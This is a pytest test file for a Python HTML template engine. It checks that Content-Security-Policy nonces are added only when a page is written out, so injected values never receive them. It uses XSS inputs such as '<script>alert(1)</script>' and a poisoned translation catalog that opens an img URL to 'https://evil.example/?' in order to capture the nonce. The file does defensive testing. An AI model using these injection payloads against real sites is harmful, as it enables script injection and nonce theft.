"""Markup carries the CSP nonce's slots, not the nonce (issue #31, second review A-D).

A template's result in a nonce scope is markup whose text is its literals' own; the
request's nonce goes in only when the page is written out (``csp.written``, the output
policy and the adapters).  Before this, the nonce was in the text from
the moment a literal was output or a format ran, so whatever code did next with that text
could put a value into a nonced script.  Each hostile test here names the review finding
it reproduces; each failed before the carrier (the nonce was in the text).  Chromium runs
A and D under a real strict header in ``tests/browser/test_csp_browser.py``.
"""

from __future__ import annotations

import gettext
import json
import textwrap
from typing import Any
from urllib.parse import quote

import pytest
from markupsafe import Markup
from ptl_helpers import compiled, json_of_both_twins
from test_csp_nonces import nonces

from ptl_wsgi import i18n
from ptl_wsgi.csp import nonce_scope, written
from ptl_wsgi.escaping.nonce import MARK, carries
from ptl_wsgi.html import htmltext

NONCE = "N0nce-Carried"
EVIL = "1;alert(1)"

SOURCE = textwrap.dedent(
    """\
    from markupsafe import Markup
    from ptl_wsgi.html import htmltext

    def script [html] ():
        '<script>var a = __V__;</script>'

    def braced [html] ():
        '<script>var a = {};</script>'

    def app_js [html] ():
        '<script src="/app.js"></script>'

    def page [html] (items):
        '<!doctype html><head>'
        app_js()
        '</head><body><ul>'
        for item in items:
            '<li>'
            item
            '</li>'
        '</ul>'
        script() + app_js()
        htmltext("\\n").join([script(), app_js()])
        '</body>'

    def replaced [html] (v):
        script().replace('__V__', v)

    def markup_format [html] (v):
        Markup(braced()).format(v)

    def via_str [html] (v):
        Markup(str(script()).replace('__V__', v))

    def in_url [html] (v):
        "<img src='"
        v
        app_js()
        "'>"

    def in_fstring_url [html] (v):
        f"<img src='{v}{app_js()}'>"

    def in_value [html] ():
        f"<input name=x value='{app_js()}'>"

    def in_script [html] ():
        '<script>var page = '
        app_js()
        ';</script>'

    def in_textarea [html] ():
        '<textarea>'
        app_js()
        '</textarea>'

    def later [html] (u):
        x = f'<script src="{u}"></script>'
        x

    def later_percent [html] (v):
        y = '<script>var a = %s;</script>' % v
        y
    """
)


@pytest.fixture(scope="module")
def templates() -> Any:
    return compiled(SOURCE, "csp_carrier")


def sent(markup: Any) -> str:
    """*markup* as a response sends it."""
    return str(written(markup))


# -- what keeps the slots: the engine's own composition --------------------------------


def test_a_page_of_templates_writes_the_nonce_in_every_literal_tag(templates: Any) -> None:
    with nonce_scope(NONCE):
        page = templates.page(["<b>", 2])
    assert carries(page)
    assert NONCE not in page  # the text is the literals' own
    assert [name for name, nonce in nonces(page) if nonce == NONCE] == ["script"] * 5
    assert all(nonce == NONCE for name, nonce in nonces(page) if name == "script")
    assert "<li>&lt;b&gt;</li><li>2</li>" in sent(page)
    assert sent(templates.page(["<b>", 2])) == sent(page).replace(f' nonce="{NONCE}"', "")


def test_outside_a_scope_nothing_carries_slots(templates: Any) -> None:
    page = templates.page([1])
    assert type(page) is htmltext
    assert "nonce" not in page and sent(page) == page


def test_the_request_that_writes_markup_out_gives_it_its_nonce(templates: Any) -> None:
    with nonce_scope("made"):
        page = templates.app_js()
    assert sent(page) == '<script src="/app.js" nonce="made"></script>'  # written later
    # Only the response path writes it: bytes made elsewhere (``quote()`` of markup into
    # a URL encodes it) hold none (fourth review, finding 3).
    assert page.encode() == b'<script src="/app.js"></script>'
    assert "nonce" not in quote(page)
    with nonce_scope("other"):
        assert sent(page) == '<script src="/app.js" nonce="other"></script>'


def test_formats_the_compiler_planned_keep_their_slots(templates: Any) -> None:
    with nonce_scope(NONCE):
        fstring = templates.later("/a b&c")
        percent = templates.later_percent(EVIL)
    assert sent(fstring) == f'<script src="/a%20b&amp;c" nonce="{NONCE}"></script>'
    assert sent(percent) == f'<script nonce="{NONCE}">var a =  "1;alert(1)" ;</script>'
    assert MARK not in fstring and "\ue000" not in sent(fstring)


def test_a_value_cannot_spell_the_mark(templates: Any) -> None:
    spelled = "\ue000" + "0" * 32 + "\ue001"
    with nonce_scope(NONCE):
        out = sent(templates.later(spelled))
    assert out.count(NONCE) == 1  # the literal's one slot, none from the value


# -- A: a value substituted into a template's result -----------------------------------


@pytest.mark.parametrize("name", ["replaced", "markup_format", "via_str"])
def test_a_value_put_into_a_templates_result_gets_no_nonce(templates: Any, name: str) -> None:
    with nonce_scope(NONCE):
        out = sent(getattr(templates, name)(EVIL))
    assert EVIL in out  # the substitution happened: the script holds the value's code
    assert NONCE not in out and nonces(out) == [("script", None)]


def test_every_operation_but_the_engines_sees_text_without_the_nonce(templates: Any) -> None:
    with nonce_scope(NONCE):
        result = templates.script()
        seen = [
            str(result),
            result.replace("__V__", EVIL),
            Markup(result),
            htmltext(result),
            result[:],
            result.upper(),
            result % (),
            result.format(),
            "%s" % result,  # noqa: UP031
            f"{result}",
        ]
    for made in seen:
        assert NONCE not in made and NONCE not in sent(made), made
        assert not carries(made)


# -- B: another template's result outside text -----------------------------------------


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("in_url", ("https://evil.example/?",)),
        ("in_fstring_url", ("https://evil.example/?",)),
        ("in_value", ()),
        ("in_script", ()),
        ("in_textarea", ()),
    ],
)
def test_a_templates_result_outside_text_takes_no_nonce(
    templates: Any, name: str, args: tuple[str, ...]
) -> None:
    with nonce_scope(NONCE):
        out = sent(getattr(templates, name)(*args))
    # (in_script's own literal <script> takes it; the value in it is a JS string)
    assert out.count(NONCE) == (name == "in_script"), out
    assert "app.js" in out


# -- C: a value's own operators: test_csp_written_flows.py's
# test_a_values_operator_never_receives_the_nonce (literals and template results) --------


# -- D: formatting at run time ----------------------------------------------------------


class Translator(gettext.NullTranslations):
    """A catalog whose translations add a script (a translator, or a poisoned .po file)."""

    def gettext(self, message: str) -> str:
        return message + "<script>alert('translator')</script>"


TRANSLATED = textwrap.dedent(
    """\
    from ptl_wsgi.i18n import gettext as _

    def hello [html] (name):
        _("Hello <b>%s</b>") % name

    def bye [html] (name):
        _("Bye <b>{}</b>").format(name)
    """
)


@pytest.mark.parametrize("name", ["hello", "bye"])
def test_a_translation_formatted_at_run_time_gets_no_nonce(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(i18n, "backend", Translator)
    module = compiled(TRANSLATED, "csp_translated")
    with nonce_scope(NONCE):
        out = sent(getattr(module, name)("bob"))
    assert "<b>bob</b><script>alert('translator')</script>" in out
    assert NONCE not in out


@pytest.mark.parametrize(
    "make",
    [
        lambda v: htmltext(v) % (),
        lambda v: htmltext(v).format(),
        lambda v: htmltext(v).format_map({}),
        lambda v: htmltext(v + "%s") % "x",
        lambda v: htmltext("%s") % htmltext(v),
    ],
)
def test_markup_formatted_at_run_time_gets_no_nonce(make: Any) -> None:
    with nonce_scope(NONCE):
        out = sent(make("<script>alert(1)</script>"))
    assert "<script>alert(1)</script>" in out and NONCE not in out


# -- both twins ------------------------------------------------------------------------

TWINS_SCRIPT = """
import json, sys
sys.path[:0] = [sys.argv[1]]
from ptl_helpers import compiled
from ptl_wsgi.csp import nonce_scope, written
from ptl_wsgi.html import IMPLEMENTATION, htmltext
module = compiled(open(sys.argv[2]).read(), "csp_carrier_twin")
out = {"twin": IMPLEMENTATION}
with nonce_scope("N"):
    made = {
        "page": module.page(["<b>", 2, None]),
        "replaced": module.replaced("1;x"),
        "in_url": module.in_url("https://e/?"),
        "later": module.later("/a b"),
        "later_percent": module.later_percent("1;x"),
        "joined": htmltext(", ").join([module.app_js(), "<i>", module.script()]),
        "added": module.app_js() + "<x>" + module.script(),
        "radded": "<x>" + module.app_js(),
        "runtime": htmltext("<script>%s</script>") % "1",
    }
for name, value in made.items():
    out[name] = [str(value), str(written(value)), type(value).__name__]
print(json.dumps(out))
"""


def test_both_twins_carry_and_write_alike(tmp_path: Any) -> None:
    from pathlib import Path

    script = tmp_path / "twins.py"
    script.write_text(TWINS_SCRIPT)
    source = tmp_path / "source.ptl"
    source.write_text(SOURCE)
    support = str(Path(__file__).resolve().parent.parent / "support")
    python, c = json_of_both_twins(str(script), support, str(source))
    assert python == c
    assert python["page"][1].count('nonce="N"') == 5
    assert python["joined"][1].count('nonce="N"') == 2
    assert python["added"][1].count('nonce="N"') == 2
    assert python["radded"][1] == '&lt;x&gt;<script src="/app.js" nonce="N"></script>'
    for name in ("replaced", "in_url", "runtime"):
        assert 'nonce="N"' not in python[name][1], name
    assert json.dumps(python).count("\ue000") == 0


# -- the third review's findings -----------------------------------------------------------

THIRD = textwrap.dedent(
    """\
    from ptl_wsgi.html import TemplateIO, htmltext, html_join

    def app_js [html] ():
        '<script src="/app.js"></script>'

    def head [html] ():
        '<script src="/head.js"></script>'

    def added_after_a_partial [html] (v):
        head() + "<img src='" + v + app_js() + "'>"

    def public_join [html] (v):
        html_join([htmltext("<img src='"), v, app_js(), htmltext("'>")])

    def public_join_in_text [html] ():
        html_join([htmltext("<p>"), app_js(), htmltext("</p>")])

    def accumulated [html] ():
        out = TemplateIO(html=True)
        out += "<b>"
        out += app_js()
        out += head()
        out.getvalue()

    def accumulated_in_url [html] ():
        out = TemplateIO(html=True)
        out += htmltext("<img src='")
        out += app_js()
        out += htmltext("'>")
        out.getvalue()
    """
)


@pytest.fixture(scope="module")
def third() -> Any:
    return compiled(THIRD, "csp_carrier_third")


def test_a_partial_added_after_markup_that_leaves_text_takes_no_nonce(third: Any) -> None:
    """Third review, finding 1: the left side already carried slots; what it ends in
    decides whether the right side keeps its own."""
    with nonce_scope(NONCE):
        out = sent(third.added_after_a_partial("https://evil.example/?"))
    assert nonces(out)[0] == ("script", NONCE)  # head()'s own script, in text
    assert out.count(NONCE) == 1, out


def test_the_public_html_join_follows_the_context(third: Any) -> None:
    """Third review, finding 3: ``html_join`` called by application code keeps slots
    only where the markup lands in text (compiled templates call ``template_join``)."""
    with nonce_scope(NONCE):
        leaked = sent(third.public_join("https://evil.example/?"))
        kept = sent(third.public_join_in_text())
    assert NONCE not in leaked
    assert nonces(kept) == [("p", None), ("script", NONCE)]


def test_template_io_keeps_the_slots_of_markup_in_text(third: Any) -> None:
    """Third review, finding 6: the Quixote accumulator."""
    with nonce_scope(NONCE):
        kept = sent(third.accumulated())
        leaked = sent(third.accumulated_in_url())
    assert kept.startswith("<b><script") and kept.count(NONCE) == 2
    assert NONCE not in leaked


def test_markup_before_a_partial_is_followed_only_so_far(templates: Any) -> None:
    """Third review, finding 2: the run-time follow parses at most a few kilobytes (the
    engine is Python; a page added before a partial would cost seconds): beyond, the
    partial keeps no slots (fails closed), and long texts are not cached."""
    from ptl_wsgi.escaping import nonce

    listing = htmltext("<li>an item</li>" * 2000)
    with nonce_scope(NONCE):
        short = sent(htmltext("<li>an item</li>") + templates.app_js())
        long = sent(listing + templates.app_js())
        joined = sent(htmltext("").join([listing, templates.app_js()]))
    assert short.count(NONCE) == 1
    assert NONCE not in long and NONCE not in joined
    assert all(len(key) <= nonce._MAX_KEPT for key in nonce._IN_TEXT)


def test_carrier_markup_pickles_as_plain_markup(templates: Any) -> None:
    """Third review, finding 7: a cache of rendered fragments (Django's pickles them)."""
    import pickle

    with nonce_scope(NONCE):
        fragment = templates.app_js()
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        loaded = pickle.loads(pickle.dumps(fragment, protocol))
        assert type(loaded) is htmltext and loaded == fragment
        assert not carries(loaded)


UNBALANCED = textwrap.dedent(
    """\
    from ptl_wsgi.i18n import gettext as _

    def welcome [html] ():
        _("Welcome <b>back</b>")
        '<script src="/app.js"></script>'

    def chained [html] ():
        '<textarea>' + _('Your <b>note</b>') + '</textarea><script src="/a.js"></script>'
    """
)


class Opening(gettext.NullTranslations):
    """A catalog whose translations leave a URL open (to read what follows)."""

    def gettext(self, message: str) -> str:
        return {
            "Welcome <b>back</b>": "Bienvenue <b>encore</b><img src='https://evil.example/?",
            "Your <b>note</b>": "</textarea><img src='https://evil.example/?",
        }.get(message, message)


@pytest.mark.parametrize("name", ["welcome", "chained"])
def test_a_translation_that_leaves_text_is_shown_as_text(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Third review, finding 8: the catalog is not the template's author; its markup
    must end in text, or the next literal's nonce would go to the URL it opened."""
    monkeypatch.setattr(i18n, "backend", Opening)
    module = compiled(UNBALANCED, "csp_unbalanced")
    with nonce_scope(NONCE):
        out = sent(getattr(module, name)())
    assert "&lt;img src=&#x27;https://evil.example/?" in out
    assert [tag for tag, nonce in nonces(out) if nonce == NONCE] == ["script"]


TSTRING_TWINS = """
import json, sys
sys.path[:0] = sys.argv[1:3]
from ptl_helpers import compiled
from test_csp_nonces import Template, _Interpolation
from ptl_wsgi.csp import nonce_scope, written
from ptl_wsgi.html import IMPLEMENTATION, htmlformat
module = compiled("def a [html] ():\\n    '<script src=\\"/a.js\\"></script>'\\n", "tw")
out = {"twin": IMPLEMENTATION}
with nonce_scope("N"):
    for name, value in [
        ("alone", lambda: module.a()),
        ("listed", lambda: [module.a(), "<i>"]),
        ("nested", lambda: Template("<b>", _Interpolation(module.a()), "</b>")),
        ("generated", lambda: (x for x in [module.a()])),
    ]:
        page = ("<section>", "</section>")
        out[name] = [
            str(written(htmlformat(Template(page[0], _Interpolation(value()), page[1]))))
            for _ in range(3)
        ]
print(json.dumps(out))
"""


def test_a_tstring_holding_a_partial_keeps_its_nonce_every_time_in_both_twins() -> None:
    """Third review, finding 5: once its strings were cached as text-only, the Python
    twin formatted such a t-string itself and dropped the partial's slots."""
    from pathlib import Path

    here = Path(__file__).resolve().parent
    support = str(here.parent / "support")
    python, c = json_of_both_twins("-c", TSTRING_TWINS, support, str(here))
    assert python == c
    for name, renders in python.items():
        # (a generator is not looked into: the markup it yields keeps no slots, fail closed)
        expected = 0 if name == "generated" else 1
        assert all(render.count('nonce="N"') == expected for render in renders), (name, renders)


# -- the fourth review's findings ----------------------------------------------------------

FOURTH = textwrap.dedent(
    """\
    from ptl_wsgi.html import htmltext

    def app_js [html] ():
        '<script src="/app.js"></script>'

    def head [html] ():
        '<script src="/head.js"></script>'

    def held_back [html] (tag, v):
        head() + "<" + tag + " src='" + v + app_js() + "'>"
    """
)


def test_markup_holding_back_a_lone_lt_is_not_text() -> None:
    """Fourth review, finding 1: ``<`` held back makes what follows a tag."""
    module = compiled(FOURTH, "csp_carrier_fourth")
    with nonce_scope(NONCE):
        out = sent(module.held_back("img", "https://evil.example/?"))
        ended = module.head() + htmltext("<")
        after = sent(ended + htmltext("img src='https://evil.example/?") + module.app_js())
        before = sent(htmltext("<") + module.app_js())
    assert out.count(NONCE) == 1 and nonces(out)[0] == ("script", NONCE)
    assert after.count(NONCE) == 1
    assert NONCE not in before
    # (a template may not end so: the compiler refuses it, fifth review, finding 1)
    with pytest.raises(SyntaxError, match="ends in a lone '<'"):
        compiled("def ends [html] ():\n    '<script></script><'\n", "csp_ends_held")


def test_the_compiled_templates_join_is_not_public() -> None:
    """Fourth review, finding 4: the join that trusts its parts' places is the compiler's."""
    from ptl_wsgi import html

    assert "template_join" not in html.__all__ and not hasattr(html, "template_join")


def test_items_joined_in_a_tstring_are_followed() -> None:
    """Fourth review, finding 5: a list in a t-string's text is joined item after item."""
    from test_csp_nonces import Template, _Interpolation

    from ptl_wsgi.html import htmlformat

    module = compiled(FOURTH, "csp_carrier_items")
    with nonce_scope(NONCE):
        items = [htmltext("<img src='"), "https://evil.example/?", module.app_js(), htmltext("'>")]
        leaked = sent(htmlformat(Template("<div>", _Interpolation(items), "</div>")))
        kept = sent(htmlformat(Template("<div>", _Interpolation([module.app_js()]), "</div>")))
    assert NONCE not in leaked
    assert kept.count(NONCE) == 1


def test_nested_items_in_a_tstring_are_followed_through() -> None:
    """Fifth review, finding 4: a list in a list is followed from where its parent is."""
    from test_csp_nonces import Template, _Interpolation

    from ptl_wsgi.html import htmlformat

    module = compiled(FOURTH, "csp_carrier_nested_items")
    with nonce_scope(NONCE):
        items = [htmltext("<img src='"), ["https://evil.example/?", [module.app_js()]], "'>"]
        leaked = sent(htmlformat(Template("<div>", _Interpolation(items), "</div>")))
        kept = sent(htmlformat(Template("<div>", _Interpolation([[module.app_js()]]), "</div>")))
    assert NONCE not in leaked
    assert kept.count(NONCE) == 1


def test_a_precision_that_cuts_a_partial_leaves_text_not_an_open_url() -> None:
    """Fifth review, finding 6: a precision cut a template's output open, and the next
    literal's nonce went to the URL the request padded; what is left is text now."""
    source = textwrap.dedent(
        """\
        def frag [html] (u):
            f"<img src='{u}'>"

        def f [html] (u):
            f"<p>{frag(u):.32}</p>"
            '<script src="/app.js"></script>'
        """
    )
    module = compiled(source, "csp_carrier_precision")
    with nonce_scope(NONCE):
        out = sent(module.f("https://evil.example/?" + "x" * 40))
    assert out.startswith("<p>&lt;img src=&#x27;https://evil.example/?")
    assert [(tag, nonce) for tag, nonce in nonces(out)] == [("p", None), ("script", NONCE)]
